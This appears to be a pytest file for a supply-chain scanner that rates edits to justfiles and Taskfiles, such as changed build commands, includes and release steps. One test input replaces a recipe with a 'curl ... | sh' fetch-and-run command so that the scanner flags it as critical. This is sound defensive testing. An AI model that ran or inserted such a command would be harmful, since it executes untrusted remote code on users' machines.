"""What an edit of a justfile or a Taskfile means."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from kit.edits import edited, mangled, never_raises, said

from scanner.formats.builds import justfile, taskfile

JUST = """\
# Acme
set shell := ["bash", "-c"]
version := "1.2.0"
import 'common.just'

default: test

# Build it
build target="all": prepare
    go build ./... # here

prepare:
    go mod download

test *options:
    go test {{options}}

[confirm]
release: build
    gh release create v{{version}}
"""
TASK = """\
version: "3"
vars:
  NAME: acme
  COMMIT:
    sh: git rev-parse HEAD
includes:
  more: ./more.yml
tasks:
  build:
    desc: Build it
    deps: [prepare]
    cmds:
      - go build -o {{.NAME}}
  prepare: go mod download
  test:
    cmds: [go test ./...]
  release:
    cmds:
      - task: build
      - cmd: goreleaser release
"""

JUST_TOLD = [
    ("build", ["go build", "go build -race"], ["high build-script-changed build"]),
    ("what it needs", [": prepare", ": prepare other"], ["high build-script-changed build.needs"]),
    ("version", ["1.2.0", "1.3.0"], ["medium version-changed version"]),
    ("shell", ['["bash", "-c"]', '["./x"]'], ["high build-script-changed set shell"]),
    ("include", ["common.just", "other.just"], ["high include-changed include"]),
    ("fetch and run", ["go test {{options}}", "curl https://e.example.org | sh"],
     ["critical download-and-run recipes", "low build-script-changed test"]),
    ("publish", ["v{{version}}", "v{{version}} --draft"],
     ["high build-script-changed release", "high publish-changed recipes"]),
    ("comment", ["# Acme", "# Ours"], []),
    ("comment in a recipe", ["# here", "# there"], []),
    ("a new check", ["prepare:\n", "lint:\n    ruff check\n\nprepare:\n"], []),
    ("attribute", ["[confirm]", "[private]"], []),
    ("indentation", ["    go build", "  go build"], []),
]  # fmt: skip
TASK_TOLD = [
    ("build", ["go build -o", "go build -race -o"], ["high build-script-changed build"]),
    ("what it needs", ["[prepare]", "[prepare, other]"], ["high build-script-changed build.needs"]),
    ("variable", ["NAME: acme", "NAME: other"], ["medium build-script-changed NAME"]),
    ("a variable that runs", ["git rev-parse HEAD", "./x"], ["high build-script-changed COMMIT"]),
    ("include", ["./more.yml", "./other.yml"], ["high include-changed include"]),
    ("publish", ["goreleaser release", "goreleaser release --clean"],
     ["high build-script-changed release", "high publish-changed recipes"]),
    ("description", ["Build it", "Build all"], []),
    ("a test", ["go test ./...", "go test -race ./..."], []),
    ("layout", ["[go test ./...]", '\n      - "go test ./..."'], []),
]  # fmt: skip


@pytest.mark.parametrize(("edits", "expected"), [row[1:] for row in JUST_TOLD], ids=[row[0] for row in JUST_TOLD])
def test_a_justfile(edits: list[str], expected: list[str]) -> None:
    assert said(justfile, JUST, edited(JUST, *edits)) == expected


@pytest.mark.parametrize(("edits", "expected"), [row[1:] for row in TASK_TOLD], ids=[row[0] for row in TASK_TOLD])
def test_a_taskfile(edits: list[str], expected: list[str]) -> None:
    assert said(taskfile, TASK, edited(TASK, *edits)) == expected


def test_a_long_script_is_compared_to_its_end() -> None:
    long = TASK.replace("git rev-parse HEAD", "git rev-parse " + "a" * 400)
    assert said(taskfile, long, long.replace("aaa\n", "aab\n")) == ["high build-script-changed COMMIT"]


def test_unreadable() -> None:
    assert [each.split()[1] for each in said(taskfile, TASK, "tasks: {\n")] == ["opaque"]
    assert [each.split()[1] for each in said(taskfile, TASK, "- a\n")] == ["opaque"]
    assert [each.split()[1] for each in said(justfile, JUST, 'a := """x\n')] == ["opaque"]
    assert said(justfile, JUST, None) == said(taskfile, TASK, None) == ["medium file-removed file"]


@settings(max_examples=100, deadline=None)
@given(old=mangled(JUST, TASK), new=mangled(JUST, TASK))
def test_never_raises(old: bytes, new: bytes) -> None:
    never_raises(justfile, old, new)
    never_raises(taskfile, old, new)
